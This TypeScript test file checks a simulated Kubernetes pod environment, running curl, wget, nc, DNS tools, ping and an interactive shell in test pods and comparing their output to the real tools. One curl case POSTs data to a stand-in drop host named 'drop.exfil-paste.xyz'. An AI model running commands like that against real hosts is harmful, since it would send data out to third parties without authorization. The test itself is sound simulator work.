import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestCluster, type TestCluster } from "../../net/testkit.ts";

let c: TestCluster;

beforeAll(() => {
  c = createTestCluster({ traffic: false });
  c.addPod({ name: "shoot", ip: "192.168.1.10", image: "nicolaka/netshoot:v0.13" });
  c.addPod({ name: "bb", ip: "192.168.1.11", image: "busybox:1.36" });
  c.addPod({ name: "toolbox", ip: "192.168.1.12", image: "alpine/k8s:1.32.3" });
  c.addPod({ name: "dns", ip: "192.168.1.13", image: "registry.k8s.io/coredns/coredns:v1.11.3" });
  c.addPod({
    name: "web",
    ip: "192.168.1.20",
    image: "nginx:1.27",
    labels: { app: "web" },
    ports: [{ containerPort: 80 }],
  });
  c.addPod({
    name: "udp",
    ip: "192.168.1.21",
    image: "busybox:1.36",
    ports: [{ containerPort: 5000, protocol: "UDP" }],
  });
  c.apply({
    apiVersion: "v1",
    kind: "Service",
    metadata: { name: "web", namespace: "default" },
    spec: {
      clusterIP: "10.96.7.7",
      selector: { app: "web" },
      ports: [{ port: 80, targetPort: 80, protocol: "TCP" }],
    },
  });
  c.apply({
    apiVersion: "v1",
    kind: "Service",
    metadata: { name: "empty", namespace: "default" },
    spec: { clusterIP: "10.96.7.8", selector: { app: "none" }, ports: [{ port: 80, protocol: "TCP" }] },
  });
});
afterAll(() => c.close());

const sh = (pod: string, cmd: string | string[], opts?: { tty?: boolean; stdin?: string }) =>
  c.exec("default", pod, cmd, opts);

describe("curl", () => {
  it.each([
    ["curl -s -o /dev/null -w '%{http_code}' http://web", 0, "200", ""],
    ["curl -s -o /dev/null -w '%{http_code}\\n' http://web/missing", 0, "404\n", ""],
    ["curl -sf http://web/missing", 22, "", ""],
    ["curl -sSf http://web/missing", 22, "", "curl: (22) The requested URL returned error: 404\n"],
    [
      "curl -sS http://10.96.7.8",
      7,
      "",
      "curl: (7) Failed to connect to 10.96.7.8 port 80 after 0 ms: Couldn't connect to server\n",
    ],
    [
      "curl -sS http://192.168.1.20:8080",
      7,
      "",
      "curl: (7) Failed to connect to 192.168.1.20 port 8080 after 0 ms: Couldn't connect to server\n",
    ],
    [
      "curl -sS https://93.184.215.14",
      60,
      "",
      "curl: (60) SSL: no alternative certificate subject name matches target host name '93.184.215.14'\n",
    ],
    ["curl -skI https://93.184.215.14 | head -n 1", 0, "HTTP/2 200 \r\n", ""],
    [
      "curl -sS https://legacy-api.shop-internal.net",
      6,
      "",
      "curl: (6) Could not resolve host: legacy-api.shop-internal.net\n",
    ],
    ["curl -sS ftp://example.com", 1, "", 'curl: (1) Protocol "ftp" not supported\n'],
    [
      "curl",
      2,
      "",
      "curl: no URL specified\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
    ],
    [
      "curl -Z x",
      2,
      "",
      "curl: option -Z: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
    ],
    [
      "curl --max-time x http://web",
      2,
      "",
      "curl: option --max-time: expected a proper numerical parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
    ],
    ["curl -s -X POST -d a=1 -H 'X-Test: 1' https://drop.exfil-paste.xyz", 0, '{"stored":true}', ""],
    ["curl -sI http://web | head -n 1", 0, "HTTP/1.1 200 OK\r\n", ""],
  ])("%s", async (cmd, code, out, err) => {
    const r = await sh("shoot", cmd);
    expect(r.code).toBe(code);
    expect(r.stdout).toBe(out);
    if (err) expect(r.stderr.startsWith(err)).toBe(true);
    else expect(r.stderr).toBe("");
  });

  it("shows the progress meter without -s and no TTY; verbose shows the exchange", async () => {
    const plain = await sh("shoot", ["curl", "http://web"]);
    expect(plain.stderr).toContain("% Total    % Received % Xferd");
    const v = await sh("shoot", ["curl", "-sv", "-o", "/dev/null", "http://web"]);
    expect(v.stderr).toContain("* Connected to web (10.96.7.7) port 80");
    expect(v.stderr).toContain("> GET / HTTP/1.1");
    expect(v.stderr).toContain("< HTTP/1.1 200 OK");
  });

  it("curl is missing from busybox: sh says not found, a direct exec fails like the runtime", async () => {
    const r = await sh("bb", "curl http://web");
    expect(r).toMatchObject({ code: 127, stderr: "sh: curl: not found\n" });
    await expect(sh("bb", ["curl", "http://web"])).rejects.toThrow(
      /^Internal error occurred: error executing command in container: failed to exec in container: failed to start exec "[0-9a-f]{64}": OCI runtime exec failed: exec failed: unable to start container process: exec: "curl": executable file not found in \$PATH: unknown$/,
    );
  });
});

describe("which programs an image has", () => {
  it("the toolbox image (alpine/k8s) has bash, curl and tar, starts in /apps, and its kubectl says it cannot run", async () => {
    const r = await sh("toolbox", [
      "bash",
      "-c",
      "pwd; which bash curl tar; curl -s -o /dev/null -w '%{http_code}' http://web",
    ]);
    expect(r).toMatchObject({
      code: 0,
      stdout: "/apps\n/usr/bin/bash\n/usr/bin/curl\n/usr/bin/tar\n200",
      stderr: "",
    });
    const k = await sh("toolbox", "kubectl get pods");
    expect(k.code).toBe(126);
    expect(k.stderr).toBe(
      "kubectl: cannot run inside a simulated pod: the simulator runs the pod's shell and network tools, not its other programs; use kubectl in your own terminal\n",
    );
    const direct = await sh("toolbox", ["helm", "version"]);
    expect(direct.code).toBe(126);
    expect(direct.stderr).toMatch(/^helm: cannot run inside a simulated pod/);
  });

  it("relative paths are in the working directory: the toolbox's /apps, then where cd goes", async () => {
    const r = await sh(
      "toolbox",
      "echo hi > note; cat /apps/note; cd /tmp && echo there > here && cat /tmp/here && test -f here && ls /apps",
    );
    expect(r).toMatchObject({ code: 0, stdout: "hi\nthere\nnote\n", stderr: "" });
  });

  it("busybox has neither bash nor curl; ash is busybox's own", async () => {
    await expect(sh("bb", ["bash"])).rejects.toThrow(
      /exec: "bash": executable file not found in \$PATH: unknown$/,
    );
    expect(await sh("bb", ["ash", "-c", "echo ok"])).toMatchObject({ code: 0, stdout: "ok\n" });
    expect(await sh("web", ["bash", "-c", "echo ok"])).toMatchObject({ code: 0, stdout: "ok\n" });
    await expect(sh("web", ["ash"])).rejects.toThrow(/exec: "ash": executable file not found/);
  });

  it("a distroless image (CoreDNS) has no program at all: not sh, not tar, not cat", async () => {
    for (const argv of [
      ["sh"],
      ["sh", "-c", "echo hi"],
      ["tar", "cf", "-", "/etc/resolv.conf"],
      ["cat", "/etc/hosts"],
    ])
      await expect(sh("dns", argv)).rejects.toThrow(
        new RegExp(`exec: "${argv[0]!}": executable file not found in \\$PATH: unknown$`),
      );
    await expect(sh("dns", ["/bin/sh"])).rejects.toThrow(
      /unable to start container process: exec: "\/bin\/sh": stat \/bin\/sh: no such file or directory: unknown$/,
    );
  });
});

describe("base64", () => {
  it("encodes bytes in lines of 76 (or one with -w 0) and decodes them back, byte for byte", async () => {
    const bytes = Buffer.from(Array.from({ length: 256 }, (_, i) => i));
    const hex = bytes.toString("base64");
    const enc = await sh("bb", `echo ${hex} | base64 -d > /tmp/all.bin; base64 /tmp/all.bin`);
    expect(enc.stdout).toBe(hex.match(/.{1,76}/g)!.join("\n") + "\n");
    const one = await sh("bb", "base64 -w 0 /tmp/all.bin | base64 -d | wc -c");
    expect(one.stdout.trim()).toBe("256");
    expect(await sh("bb", "printf 'hi' | base64")).toMatchObject({ code: 0, stdout: "aGk=\n" });
    expect(await sh("bb", "echo 'not*base64' | base64 -d")).toMatchObject({
      code: 1,
      stderr: "base64: invalid input\n",
    });
  });
});

describe("wget (busybox)", () => {
  it.each([
    ["wget -qO- http://web | grep -c nginx", 0, "6\n", ""],
    ["wget -q --spider http://web", 0, "", ""],
    ["wget -O- http://web > /dev/null", 0, "", "Connecting to web (10.96.7.7:80)\nwriting to stdout\n"],
    ["wget -qO- http://web/nope", 1, "", "wget: server returned error: HTTP/1.1 404 Not Found\n"],
    [
      "wget -qO- http://10.96.7.8",
      1,
      "",
      "wget: can't connect to remote host (10.96.7.8): Connection refused\n",
    ],
    ["wget -qO- http://no-such-service", 1, "", "wget: bad address 'no-such-service'\n"],
    ["wget -Z http://web", 1, "", "wget: unrecognized option: Z\nBusyBox v1.36.1"],
  ])("%s", async (cmd, code, out, err) => {
    const r = await sh("bb", cmd);
    expect(r.code).toBe(code);
    expect(r.stdout).toBe(out);
    if (err) expect(r.stderr.startsWith(err)).toBe(true);
  });
});

describe("resolver tools", () => {
  it("busybox nslookup", async () => {
    const r = await sh("bb", "nslookup web");
    expect(r.stdout).toBe(
      "Server:\t\t10.96.0.10\nAddress:\t10.96.0.10:53\n\nName:\tweb.default.svc.cluster.local\nAddress: 10.96.7.7\n\n",
    );
    const ext = await sh("bb", "nslookup example.com");
    expect(ext.stdout).toContain("Non-authoritative answer:\nName:\texample.com\nAddress: 93.184.215.14\n");
    const nx = await sh("bb", "nslookup nope.invalid");
    expect(nx.code).toBe(1);
    expect(nx.stdout).toContain("** server can't find nope.invalid: NXDOMAIN");
  });

  it("bind nslookup follows CNAMEs", async () => {
    const r = await sh("shoot", "nslookup docker.io");
    expect(r.stdout).toBe(
      "Server:\t\t10.96.0.10\nAddress:\t10.96.0.10#53\n\nNon-authoritative answer:\ndocker.io\tcanonical name = registry-1.docker.io.\nName:\tregistry-1.docker.io\nAddress: 54.198.86.24\n\n",
    );
  });

  it("dig does not use the search list by default; +search does", async () => {
    const plain = await sh("shoot", "dig web");
    expect(plain.stdout).toContain("status: NXDOMAIN");
    const searched = await sh("shoot", "dig +search +short web");
    expect(searched.stdout).toBe("10.96.7.7\n");
    const full = await sh("shoot", "dig api.github.com");
    expect(full.stdout).toMatch(/;; ANSWER SECTION:\napi\.github\.com\.\t\t30\tIN\tA\t140\.82\.112\.6\n/);
    expect(full.stdout).toContain(";; SERVER: 10.96.0.10#53(10.96.0.10) (UDP)");
  });

  it("getent hosts prints the canonical name; a missing name exits 2", async () => {
    expect((await sh("shoot", "getent hosts web")).stdout).toBe(
      "10.96.7.7       web.default.svc.cluster.local web\n",
    );
    expect((await sh("shoot", "getent hosts nope.invalid")).code).toBe(2);
  });
});

describe("nc and ping", () => {
  it.each([
    ["shoot", "nc -zv web 80", 0, "Connection to web (10.96.7.7) 80 port [tcp/*] succeeded!\n"],
    [
      "shoot",
      "nc -zv -w 1 192.168.1.20 81",
      1,
      "nc: connect to 192.168.1.20 (192.168.1.20) port 81 (tcp) failed: Connection refused\n",
    ],
    ["bb", "nc -zv web 80", 0, "web (10.96.7.7:80) open\n"],
    ["bb", "nc -zv 192.168.1.20 81", 1, "nc: 192.168.1.20 (192.168.1.20:81): Connection refused\n"],
    ["bb", "nc -zvu 192.168.1.21 5000", 0, "192.168.1.21 (192.168.1.21:5000) open\n"],
    ["bb", "nc -x web 80", 1, "nc: unrecognized option: x\n"],
  ])("%s: %s", async (pod, cmd, code, err) => {
    const r = await sh(pod, cmd);
    expect(r.code).toBe(code);
    expect(r.stderr.startsWith(err)).toBe(true);
  });

  it("nc passes an HTTP request through", async () => {
    const r = await sh("bb", ["nc", "web", "80"], { stdin: "GET / HTTP/1.1\r\nHost: web\r\n\r\n" });
    expect(r.stdout.startsWith("HTTP/1.1 200 OK\r\n")).toBe(true);
  });

  it("netshoot's ping is iputils", async () => {
    const r = await sh("shoot", "ping -c 1 8.8.8.8");
    expect(r.stdout).toMatch(
      /^PING 8\.8\.8\.8 \(8\.8\.8\.8\) 56\(84\) bytes of data\.\n64 bytes from 8\.8\.8\.8: icmp_seq=1 ttl=117 time=/,
    );
    expect(r.stdout).toContain("1 packets transmitted, 1 received, 0% packet loss");
    const bad = await sh("shoot", "ping -c 1 nope.invalid");
    expect(bad).toMatchObject({ code: 2, stderr: "ping: nope.invalid: Name or service not known\n" });
  });

  it("ping counts replies", async () => {
    const r = await sh("bb", "ping -c 2 192.168.1.20");
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("2 packets transmitted, 2 packets received, 0% packet loss");
    const svc = await sh("bb", "ping -c 1 -W 1 10.96.7.7");
    expect(svc.code).toBe(1);
    expect(svc.stdout).toContain("1 packets transmitted, 0 packets received, 100% packet loss");
  });
});

describe("files, environment and the interactive shell", () => {
  it("every pod has the kubelet's files and service environment", async () => {
    const r = await sh(
      "bb",
      "cat /etc/resolv.conf; cat /etc/hostname; cat /var/run/secrets/kubernetes.io/serviceaccount/namespace; echo; env | grep -c KUBERNETES_",
    );
    expect(r.stdout).toBe(
      "search default.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\nbb\ndefault\n8\n",
    );
    const hosts = await sh("web", "cat /etc/hosts | tail -n 1");
    expect(hosts.stdout).toBe("192.168.1.20\tweb\n");
  });

  it("ip and hostname -i show the pod's address and Calico's link-local gateway", async () => {
    const r = await sh("bb", "hostname -i; ip a | grep 'inet ' | tail -n 1; ip route | head -n 1");
    expect(r.stdout).toBe(
      "192.168.1.11\n    inet 192.168.1.11/32 scope global eth0\ndefault via 169.254.1.1 dev eth0 \n",
    );
  });

  it("an interactive sh under a TTY echoes, edits lines, keeps history and exits", async () => {
    const r = await sh("bb", ["sh"], { tty: true, stdin: "echo hellx\x7fo\recho $?\r\x1b[A\rexit 5\r" });
    expect(r.code).toBe(5);
    expect(r.stdout).toContain("/ # echo hellx\b \bo\r\nhello\r\n/ # ");
    expect(r.stdout.match(/\r\n0\r\n/g)).toHaveLength(2);
  });

  it("Ctrl-C interrupts a running loop and the prompt comes back", async () => {
    const r = await sh("bb", ["sh"], {
      tty: true,
      stdin: "while true; do sleep 1; done\r\x03echo after\rexit\r",
    });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("^C\r\n/ # echo after\r\nafter\r\n");
  });

  it("a script on stdin runs without a TTY", async () => {
    const r = await sh("bb", ["sh"], { stdin: "echo one\necho two\n" });
    expect(r.stdout).toBe("one\ntwo\n");
  });

  it("kubectl logs shows nginx's access log and CoreDNS's startup", async () => {
    await sh("shoot", "curl -s -o /dev/null http://web/");
    expect(c.dataplane.runtime.logs("default", "web", { tailLines: 1 })).toMatch(
      /^192\.168\.1\.10 - - \[\d\d\/\w{3}\/2026:\d\d:\d\d:\d\d \+0000\] "GET \/ HTTP\/1\.1" 200 615 "-" "curl\/8\.11\.1" "-"\n$/,
    );
    expect(c.dataplane.runtime.logs("kube-system", "coredns-7db6d8ff4d-4xk2p", {})).toContain(
      "CoreDNS-1.11.3",
    );
    expect(() => c.dataplane.runtime.logs("default", "ghost", {})).toThrow(/pods "ghost" not found/);
  });
});

describe("many connections in one command line", () => {
  it("give the event loop its turns", async () => {
    let turns = 0;
    let done = false;
    const tick = (): void => {
      if (done) return;
      turns++;
      setImmediate(tick);
    };
    setImmediate(tick);
    const r = await sh("shoot", `curl -s ${"http://web/ ".repeat(1000)} | grep -c '<title>'`);
    done = true;
    expect(r.stdout).toBe("1000\n");
    expect(turns).toBeGreaterThanOrEqual(1000 / 16 - 1);
  });
});
